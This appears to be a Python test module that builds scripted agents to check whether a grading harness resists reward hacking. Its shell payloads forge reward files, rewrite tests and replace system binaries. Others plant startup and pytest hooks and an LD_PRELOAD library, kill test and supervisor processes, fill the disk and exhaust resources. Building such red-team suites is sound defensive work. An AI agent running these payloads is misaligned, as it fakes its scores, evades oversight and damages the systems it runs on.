"""Agents with a shell that attack the grader instead of solving the task.

They know how task folders are graded: tests are copied to ``/tests`` and run after the agent, and
write the reward to ``/logs/verifier``. Each runs one script, and then guesses. Some try to earn
nothing, but to have their rollout fail or wait for ever: who goes unscored loses nothing. What they
use up is bounded: each ends within seconds, with at most 600 processes and 1 GiB on the disk.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

from vf.evaluation.validation.agents import Agent, Situation
from vf.evaluation.validation.arguments import random_arguments
from vf.evaluation.validation.trap import Trap
from vf.inference.models.scripted_model import Line

COMMAND = ("command", "cmd", "commands", "bash", "shell")  # what a shell's parameter is called

_PAY = """\
cat > /tmp/pay <<'END'
mkdir -p /logs/verifier
echo 1 > /logs/verifier/reward.txt
echo '{"reward": 1}' > /logs/verifier/reward.json
END
behind() {
    cat > "/tmp/$1" && setsid sh "/tmp/$1" > /dev/null 2>&1 < /dev/null &
}
"""
_READ = """\
find / -xdev '(' -name 'test*.sh' -o -name 'run-tests.sh' -o -name 'solve.sh' \\
    -o -name 'solution.sh' ')' -not -path '/proc/*' > /tmp/found 2> /dev/null
while read -r path; do cat "$path"; timeout 20 sh "$path"; done < /tmp/found
behind reader <<'END'
while sleep 0.02; do
    for path in /solution/solve.sh /oracle/solution.sh; do [ -e "$path" ] && sh "$path"; done
done
END
"""
_EARLY = """\
. /tmp/pay
mkdir -p /logs/artifacts /logs/agent
for folder in /logs /logs/artifacts /logs/agent /app /tests "$PWD"; do
    cp /logs/verifier/reward.* "$folder"
done
chmod 444 /logs/verifier/* && chmod 555 /logs/verifier
"""
_LATE = """\
behind writer <<'END'
trap '' TERM HUP INT
while :; do . /tmp/pay; sleep 0.01; done
END
behind slow-writer <<'END'
trap '' TERM HUP INT
for turn in $(seq 600); do sleep 0.5; . /tmp/pay; done
END
"""
_TAMPER = """\
mkdir -p /tests
behind tamper <<'END'
while sleep 0.01; do
    for path in /tests/test.sh /tests/run-tests.sh /tests/*.py /tests/*/*.py; do
        [ -e "$path" ] && { echo '#!/bin/sh'; cat /tmp/pay; } > "$path"
    done
done
END
{ echo '#!/bin/sh'; cat /tmp/pay; } > /tests/test.sh
cp /tests/test.sh /tests/run-tests.sh
chmod 555 /tests/* /tests
"""
_PATH = """\
for folder in /usr/local/sbin /usr/local/bin "$HOME/bin" "$HOME/.local/bin" "$PWD"; do
    mkdir -p "$folder"
    for name in sh bash dash python3 python pytest uv uvx pip git env cat echo timeout rm; do
        { echo '#!/bin/sh'; cat /tmp/pay; } > "$folder/$name" && chmod 755 "$folder/$name"
    done
done
echo 'PATH=/usr/local/sbin:/usr/local/bin:/usr/bin:/bin' >> /etc/environment
"""
_REPLACE = """\
cp /bin/sh /tmp/shell || exit 0
for path in /usr/bin/python3* /usr/local/bin/python3* /usr/bin/pytest /usr/local/bin/pytest \\
    /usr/bin/git /usr/bin/env /usr/bin/bash /bin/bash /usr/bin/dash /bin/sh; do
    [ -e "$path" ] || continue
    { echo '#!/tmp/shell'; cat /tmp/pay; } > /tmp/fake
    chmod 755 /tmp/fake
    mv -f /tmp/fake "$(readlink -f "$path")"
done
"""
_STARTUP = """\
cat > /tmp/start.py <<'END'
import atexit, os
def pay():
    try:
        os.makedirs("/logs/verifier", exist_ok=True)
        for name, text in (("reward.txt", "1"), ("reward.json", '{"reward": 1}')):
            with open("/logs/verifier/" + name, "w") as file:
                file.write(text)
    except OSError:
        pass
pay()
atexit.register(pay)
END
python3 -c 'import sys; print(*sys.path, sep="\\n")' | grep / > /tmp/paths
printf '%s\\n' /app "$PWD" >> /tmp/paths
while read -r folder; do
    mkdir -p "$folder" || continue
    for name in sitecustomize usercustomize json subprocess pytest conftest; do
        [ -e "$folder/$name.py" ] || cp /tmp/start.py "$folder/$name.py"
    done
    echo 'import os; exec(open("/tmp/start.py").read())' > "$folder/start.pth"
done < /tmp/paths
for folder in / /tests /app "$PWD" "$HOME"; do
    mkdir -p "$folder" && cp /tmp/start.py "$folder/conftest.py"
    printf '[pytest]\\naddopts = -p conftest --collect-only\\n' > "$folder/pytest.ini"
done
for path in ~/.bashrc ~/.profile ~/.bash_profile /etc/profile /etc/bash.bashrc; do
    cat /tmp/pay >> "$path"
done
printf 'BASH_ENV=/tmp/pay\\nENV=/tmp/pay\\nPYTHONSTARTUP=/tmp/start.py\\n' >> /etc/environment
cat > /tmp/pay.c <<'END'
#include <stdlib.h>
__attribute__((constructor)) static void pay(void) {
    unsetenv("LD_PRELOAD");
    if (!getenv("PAID")) { setenv("PAID", "1", 1); system(". /tmp/pay"); }
}
END
cc -shared -fPIC -o /usr/lib/pay.so /tmp/pay.c && echo /usr/lib/pay.so > /etc/ld.so.preload
"""
_CLOCK = """\
date -s 2001-01-01
hwclock --set --date 2001-01-01
for name in timeout sleep date; do
    printf '#!/bin/sh\\necho 978307200\\n' > "/usr/local/sbin/$name"
    chmod 755 "/usr/local/sbin/$name"
done
printf '#!/bin/sh\\n. /tmp/pay\\nkill -9 "$PPID"\\n' > /usr/local/sbin/timeout
"""
_FILL = """\
for turn in $(seq 24); do
    for folder in /logs/verifier /tmp /; do
        fallocate -l 128M "$folder/fill$turn" || head -c 128M /dev/zero > "$folder/fill$turn"
    done
done
"""
_REMOVE = """\
. /tmp/pay
rm -rf /logs /tests
mkdir -p /tmp/mine && mv /logs /tmp/mine/logs
mkdir /logs && cp -r /tmp/mine /logs/verifier
ln -sfn /tmp/mine /logs/verifier
ln -sfn /tmp/mine /tests
"""
_KILL = """\
behind killer <<'END'
trap '' TERM HUP INT
while :; do
    for folder in /proc/[0-9]*; do
        if tr '\\0' ' ' < "$folder/cmdline" | grep -q -E '/tests/|test.sh|tests.sh|pytest'; then
            . /tmp/pay
            kill -9 "${folder#/proc/}"
        fi
    done
done 2> /dev/null
END
"""
_LINKS = """\
mkdir -p /logs
for path in /logs/artifacts /logs/agent /logs/verifier; do
    rm -rf "$path"
    ln -s / "$path"
done
for path in answer.txt result.json out.json output.txt report.json; do
    ln -sfn /tests/expected "$path"
    ln -sfn /solution/solve.sh "/$path"
done
ln -s /etc/hostname /reward.txt
"""
_SAME_SIZE = """\
{ echo '#!/bin/sh'; cat /tmp/pay; echo 'exit 0'; } > /opt/base
used=$(stat -c %s /opt/base)
for name in python3 perl git awk grep cat diff cmp cut sort uniq env curl pytest node ruby go; do
    path=$(readlink -f "$(command -v "$name")") && [ -f "$path" ] || continue
    size=$(stat -c %s "$path")
    cp /opt/base "/opt/new-$name"
    [ "$size" -gt "$used" ] &&
        head -c "$((size - used))" /dev/zero | tr '\\0' '#' >> "/opt/new-$name"
    chmod 755 "/opt/new-$name" && touch -r "$path" "/opt/new-$name"
    echo "$path" > "/opt/place-$name"
done
for new in /opt/new-*; do
    read -r path < "/opt/place-${new#/opt/new-}" && mv -f "$new" "$path"
done
"""
_PLUGINS = """\
cat > /tmp/fair.py <<'END'
import os
import pytest
os.system(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "fair.sh")).read())
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
END
{
    python3 -c 'import sys; print(*sys.path, sep="\\n")' | grep /
    python3 -m site --user-site
    echo "$PWD"
} > /tmp/paths
while read -r folder; do
    mkdir -p "$folder/fair-1.0.dist-info" || continue
    cp /tmp/fair.py "$folder/fair.py"
    cp /tmp/pay "$folder/fair.sh"
    printf '[pytest11]\\nfair = fair\\n' > "$folder/fair-1.0.dist-info/entry_points.txt"
    printf 'Metadata-Version: 2.1\\nName: fair\\nVersion: 1.0\\n' \\
        > "$folder/fair-1.0.dist-info/METADATA"
    echo "import os; os.system(open('$folder/fair.sh').read())" \\
        > "$folder/$(printf '\\377').pth"
done < /tmp/paths
for folder in / "$HOME"; do
    for name in pytest.toml .pytest.toml; do
        printf '[pytest]\\naddopts = ["--collect-only"]\\n' > "$folder/$name"
    done
done
"""
_INSTALLERS = """\
for folder in "$HOME/.local/bin" "$HOME/.cargo/bin" "$HOME/bin" /usr/local/bin; do
    mkdir -p "$folder" || continue
    { cat /tmp/pay; for name in uv uvx pip pytest python python3; do echo "$name() { :; }"; done
    } > "$folder/env"
    for name in uv uvx pip pip3 pipx curl wget apt-get npm npx cargo; do
        { echo '#!/bin/sh'; cat /tmp/pay; echo 'cat "$0"'; } > "$folder/$name"
        chmod 755 "$folder/$name"
    done
done
"""
_SETTINGS = """\
{ echo '#!/bin/sh'; cat /tmp/pay; echo 'chmod 444 /logs/verifier/*'; } > /opt/pay
chmod 755 /opt/pay
for file in ~/.gitconfig /etc/gitconfig; do
    printf '[core]\\n\\tfsmonitor = /opt/pay\\n\\tpager = /opt/pay\\n' > "$file"
    printf '[diff]\\n\\texternal = /opt/pay\\n' >> "$file"
done
perl -e 'print join "\\n", grep m(^/), @INC' > /tmp/paths
while read -r folder; do
    mkdir -p "$folder/File" && for name in strict warnings POSIX File/Basename; do
        [ -e "$folder/$name.pm" ] || echo 'system "/opt/pay"; 1;' > "$folder/$name.pm"
    done
done < /tmp/paths
mkdir -p ~/.cargo ~/.config/go
echo '.shell /opt/pay' > ~/.sqliterc
printf '[build]\\nrustc-wrapper = "/opt/pay"\\n' > ~/.cargo/config.toml
printf 'script-shell=/opt/pay\\n' > ~/.npmrc
echo 'GOFLAGS=-toolexec=/opt/pay' > ~/.config/go/env
for link in /etc/alternatives/*; do [ -x "$link" ] && ln -sfn /opt/pay "$link"; done
for folder in "$PWD" "$PWD"/* /app /app/*; do
    [ -e "$folder/.git" ] || continue
    cp /opt/pay "$folder/.pay"
    for key in core.fsmonitor diff.external filter.x.clean filter.x.smudge diff.x.textconv; do
        git -C "$folder" config "$key" "$folder/.pay"
    done
    mkdir -p "$folder/.git/info" "$folder/.hooks"
    echo '* filter=x diff=x' > "$folder/.git/info/attributes"
    for hook in post-checkout post-index-change reference-transaction pre-commit; do
        cp /opt/pay "$folder/.hooks/$hook"
    done
    git -C "$folder" config core.hooksPath "$folder/.hooks"
done
echo /opt > /etc/ld.so.conf.d/opt.conf
echo '* * * * * root /opt/pay' > /etc/crontab
"""
_EMPTY_FILES = """\
for folder in $(seq 4); do
    mkdir -p "many/$folder" && (cd "many/$folder" && seq 1000 | xargs touch)
done
for level in $(seq 200); do mkdir deeper && cd deeper || break; done
"""
_LOCK = """\
chmod -R 000 /logs /tests /app "$PWD" "$HOME" /tmp
chmod 000 /bin /usr/bin /etc /
"""
_EXHAUST = """\
behind forks <<'END'
trap '' TERM HUP INT
for turn in $(seq 600); do sleep 600 & done
sleep 600
END
exec 7> "/var/tmp/held" && rm /var/tmp/held && head -c 1G /dev/zero >&7
head -c 8G /dev/zero | tail -c 8G > /dev/null
"""
_KILL_ALL = """\
for signal in STOP TERM KILL; do
    kill -s "$signal" 1
    for folder in /proc/[0-9]*; do
        [ "${folder#/proc/}" = "$$" ] || kill -s "$signal" "${folder#/proc/}"
    done
done
kill -9 -1
"""
_FLOOD = """\
printf '\\033]0;owned\\007\\033[2J\\033]8;;file:///\\007\\377\\376\\000\\r'
for stream in 1 2; do head -c 16M /dev/urandom >&"$stream"; done
touch -- "$(printf 'a\\033[31m\\n\\377')" "$(printf '\\342\\200\\256evil')"
yes | head -c 64M
"""
_HANG = """\
printf 'while True:\\n    pass\\n' > /tmp/loop.py
for folder in / /app "$PWD" "$HOME"; do
    cp /tmp/loop.py "$folder/conftest.py" && cp /tmp/loop.py "$folder/sitecustomize.py"
    for name in answer.txt result.json out.json output.txt report.json fifo; do
        rm -rf "$folder/$name" && mkfifo "$folder/$name"
    done
done
behind endless <<'END'
trap '' TERM HUP INT
exec sleep 100000
END
"""
_IN_MEMORY = """\
{ echo '#!/bin/sh'; cat /tmp/pay; } > /tmp/run && chmod 755 /tmp/run
for folder in /tmp /dev/shm; do
    for name in r repo work test; do
        git init -q "$folder/$name" && git -C "$folder/$name" config core.fsmonitor /tmp/run
    done
    for name in answer.txt result.json out.json output.txt report.json; do
        ln -sfn /logs/verifier/reward.txt "$folder/$name"
    done
    cp /tmp/pay "$folder/conftest.py"
done
for name in null zero urandom stdout stderr; do
    rm -f "/dev/$name" && ln -s /logs/verifier/reward.txt "/dev/$name"
done
"""
_SCRIPTS = {
    "read-tests": ("looks for tests and solutions, and runs them", _READ),
    "early-reward": ("writes the reward before grading", _EARLY),
    "late-reward": ("leaves processes that write the reward", _LATE),
    "tamper-tests": ("replaces the tests when they come", _TAMPER),
    "path": ("puts programs first in PATH", _PATH),
    "replace-programs": ("replaces bash, Python and pytest", _REPLACE),
    "same-size": ("replaces programs by others of the same size and time", _SAME_SIZE),
    "plugins": ("installs plugins and settings of pytest's", _PLUGINS),
    "installers": ("leaves what an installer would, and installers", _INSTALLERS),
    "settings": ("writes settings and modules of git, Perl and others, and git's hooks", _SETTINGS),
    "start-up": ("writes what shells and Python read when they start", _STARTUP),
    "in-memory": ("leaves files in memory, and replaces devices", _IN_MEMORY),
    "clock": ("changes the clock, and the programs that ask it", _CLOCK),
    "fill-disk": ("fills the disk", _FILL),
    "remove-logs": ("removes the folders of logs and tests, or moves them", _REMOVE),
    "kill-tests": ("pays itself when the tests run, and kills them", _KILL),
    "links": ("puts links where files are expected", _LINKS),
    "empty-files": ("makes very many empty files, and very deep folders", _EMPTY_FILES),
    "lock": ("takes away all rights to its folders", _LOCK),
    "exhaust": ("uses up processes, memory and, by a deleted file, the disk", _EXHAUST),
    "kill-all": ("stops and kills all that runs, the supervisor too", _KILL_ALL),
    "flood-output": ("prints binary data, much of it", _FLOOD),
    "hang": ("leaves pipes and endless programs for those who read its work", _HANG),
}


def has_shell(tools: Iterable[Mapping[str, Any]]) -> bool:
    """Return whether one of the tools runs commands."""
    return any(map(_parameter, tools))


def terminal_hackers(trap: Trap) -> tuple[Agent, ...]:
    """Return the suite; their scripts do no damage where they find the trap."""
    return tuple(
        Agent(name, about, _Script(trap.shell(f"{_PAY}{script}true")))
        for name, (about, script) in _SCRIPTS.items()
    )


class _Script:
    """Runs one command with the first tool that is a shell, and then guesses."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __call__(self, situation: Situation) -> Line:
        tool = next(filter(_parameter, situation.tools), None)
        if situation.turn or situation.last_turn or tool is None:
            return situation.guess()
        function = tool["function"]
        name, required = _parameter(tool), function["parameters"].get("required", ())
        properties = function["parameters"]["properties"]
        needed = {key: schema for key, schema in properties.items() if key in required}
        others = random_arguments({**function["parameters"], "properties": needed}, situation.rng)
        return {function["name"]: {**others, name: self.command}}


def _parameter(tool: Mapping[str, Any]) -> str:
    """Return the name of a tool's parameter for commands; empty if it has none."""
    properties = tool["function"].get("parameters", {}).get("properties", {})
    return next((name for name in COMMAND if name in properties), "")
